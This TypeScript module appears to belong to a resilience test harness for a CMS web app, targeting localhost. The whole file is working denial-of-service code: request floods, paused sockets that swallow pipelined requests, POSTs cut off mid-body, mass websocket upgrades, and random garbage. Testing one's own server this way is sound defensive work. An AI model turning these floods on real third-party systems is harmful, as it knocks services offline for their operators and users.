import { randomBytes } from 'node:crypto'
import { type Attack, flood, nthOf, occupy, sendAttack } from './attackTools.ts'

const rawLists = [
  '/cms/api/entries?limit=100&depth=2',
  '/cms/api/categories?limit=100',
  '/cms/api/news?depth=2',
  '/cms/api/files?limit=100',
]
const forms = ['/addrequest', '/en/addrequest', '/categories/list/Apotheken/x/report']
const asForm = 'Content-Type: application/x-www-form-urlencoded'
const typed = `form=new&name=${'x'.repeat(200)}&captchaId=x&captchaCode=y`
const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`

const reads =
  (atOnce: number, pathOf: (n: number) => string): Attack =>
  (target) =>
    flood(target, atOnce, (n) => sendAttack(target, { method: 'GET', path: pathOf(n) }))

/** Attacks on addresses that the first attacks do not use. */
export const otherDoors: Record<string, Attack> = {
  'raw lists that nobody reads, 250': (target) =>
    occupy(target, 250, (socket, n) => {
      socket.pause()
      socket.write(get(nthOf(rawLists, n)).repeat(200))
    }),
  'raw lists, 50 at once': reads(50, (n) => `${nthOf(rawLists, n)}&page=${1 + (n % 40)}`),
  'forms, 50 at once': (target) =>
    flood(target, 50, (n) =>
      sendAttack(target, {
        path: nthOf(forms, n),
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: typed,
      }),
    ),
  'forms that break off, 100 at once': (target) =>
    occupy(target, 100, (socket, n) => {
      const path = nthOf([...forms, '/confirm/x', '/en/confirm/x/y'], n)
      socket.write(`POST ${path} HTTP/1.1\r\nHost: localhost\r\n${asForm}\r\nContent-Length: 90000\r\n\r\n`)
      socket.write(Buffer.alloc(80_000, 'x'), () => setTimeout(() => socket.resetAndDestroy(), 20))
    }),
  'other protocols, 250': (target) =>
    occupy(target, 250, (socket) => {
      socket.write('GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n')
    }),
  'garbage, 250': (target) =>
    occupy(target, 250, (socket) => {
      socket.write(randomBytes(65_536))
    }),
}
